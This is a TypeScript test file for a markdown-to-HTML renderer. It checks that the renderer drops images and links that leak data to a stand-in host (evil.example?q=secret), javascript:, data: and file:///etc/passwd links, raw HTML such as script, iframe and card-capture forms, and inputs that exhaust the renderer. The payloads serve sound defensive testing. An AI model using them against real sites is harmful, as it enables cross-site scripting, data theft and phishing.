import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { renderer } from '../../src/knowledge/markdown.ts'

describe('markdown as HTML', () => {
  it('is the same for ordinary sentences as beside something that has to be parsed', () => {
    const pieces = [
      'Hello',
      'écran',
      '中文',
      '7',
      '12.',
      '[1]',
      '[12]',
      ' ',
      '  ',
      ' ',
      '. ',
      ', ',
      ': ',
      '!',
      '?',
      '(',
      ')',
    ]
    const marks = [
      '-',
      '--',
      '—',
      '"',
      '“',
      '”',
      '’',
      '€',
      '…',
      "'",
      'www.',
      'e.g.',
      'x.example',
      '\n\n',
      '\n',
      '\u00a0',
      '*',
    ]
    const text = fc.array(fc.constantFrom(...pieces, ...marks, '[', ']', '[^1]', '[a](b)', '1) '), { maxLength: 14 })
    fc.assert(
      fc.property(text, (said) => {
        const sentences = `So ${said.join('')}`
        // A heading makes the whole go through the parser.
        expect(renderer.markdown(sentences)).toBe(before(renderer.markdown(`${sentences}\n\n### end`)))
      }),
      { numRuns: 2_000 },
    )
    function before(html: string): string {
      return html.replace(/\n?<h3>end<\/h3>$/, '')
    }
  })

  it('shows lists, tables, emphasis and code', () => {
    const html = renderer.markdown('3. **three**\n4. `four`\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect(html).toContain('<ol start="3">')
    expect(html).toContain('<strong>three</strong>')
    expect(html).toContain('<code>four</code>')
    expect(html).toContain('<td>1</td>')
  })

  it.each([
    ['![shot](https://evil.example/?q=secret)'],
    ['![shot][r]\n\n[r]: https://evil.example/?q=secret'],
    ['[![shot](https://evil.example/?q=secret)](https://shop.example)'],
    ['<img src="https://evil.example/?q=secret" alt="shot">'],
  ])('loads nothing for %s [S46]', (markdown) => {
    const html = renderer.markdown(markdown)
    expect(html).not.toContain('<img')
    expect(html).not.toContain('evil.example')
  })

  it('puts the description of a picture in its place [S46]', () => {
    expect(renderer.markdown('See ![the red button](x.png).')).toBe('<p>See the red button.</p>')
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&#115;cript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '/articles/returns',
    'https://shop.example@evil.example/',
  ])('makes text of a link to %s [S47]', (address) => {
    const html = renderer.markdown(`[label](<${address}>)`)
    expect(html).not.toContain('<a')
    expect(html).toContain('label')
  })

  it('opens links elsewhere without telling where from, and shows a host that the text hides [S48]', () => {
    const html = renderer.markdown('[our terms](https://shop.example/terms)')
    expect(html).toContain('href="https://shop.example/terms"')
    expect(html).toContain('rel="noopener noreferrer nofollow"')
    expect(html).toContain('target="_blank"')
    expect(html).toContain('our terms<span class="link-host"> (shop.example)</span>')
    expect(renderer.markdown('https://shop.example/terms')).not.toContain('link-host')
    expect(renderer.markdown('[paypal.example](https://evil.example)')).toContain('(evil.example)')
    expect(renderer.markdown('[evil.example.org](https://evil.example)')).toContain('(evil.example)')
  })

  it.each([
    '<form action="https://evil.example"><input name="card"></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>body{display:none}</style>',
    '<base href="https://evil.example">',
    '<svg onload="alert(1)"></svg>',
    '<p onclick="alert(1)">x</p>',
    '<script>alert(1)</script>',
    'a <b onmouseover="alert(1)">b</b>',
  ])('has no raw HTML: %s [S49]', (markdown) => {
    expect(renderer.markdown(`${markdown}\n\nAfter.`)).not.toMatch(/<(?!\/?p>)/)
  })

  it('is bounded for 5,000 quote marks and for a table of 3,000 columns [S41]', () => {
    const depth = renderer.markdown(`${'>'.repeat(5000)} deep`).match(/<blockquote>/g)?.length
    expect(depth).toBeLessThanOrEqual(30)
    const cells = '|a'.repeat(3000)
    const html = renderer.markdown(`${cells}|\n${'|-'.repeat(3000)}|\n${cells}|`)
    expect(html.match(/<t[dh]/g)).toBeNull()
    expect(html.length).toBeLessThan(30_000)
  })
})

describe("a customer's words as HTML", () => {
  it('stay as typed, with line breaks', () => {
    expect(renderer.plain('<b>1 & 2</b>\n"it\'s"')).toBe('&lt;b&gt;1 &amp; 2&lt;/b&gt;<br>&quot;it&#39;s&quot;')
  })

  it('have links to whole web addresses alone, with the sentence mark outside', () => {
    const html = renderer.plain('See https://shop.example/a?b=1&c=2. And javascript:alert(1) https://a@evil.example')
    expect(html).toContain(
      '<a href="https://shop.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">',
    )
    expect(html.match(/<a /g)).toHaveLength(1)
  })
})
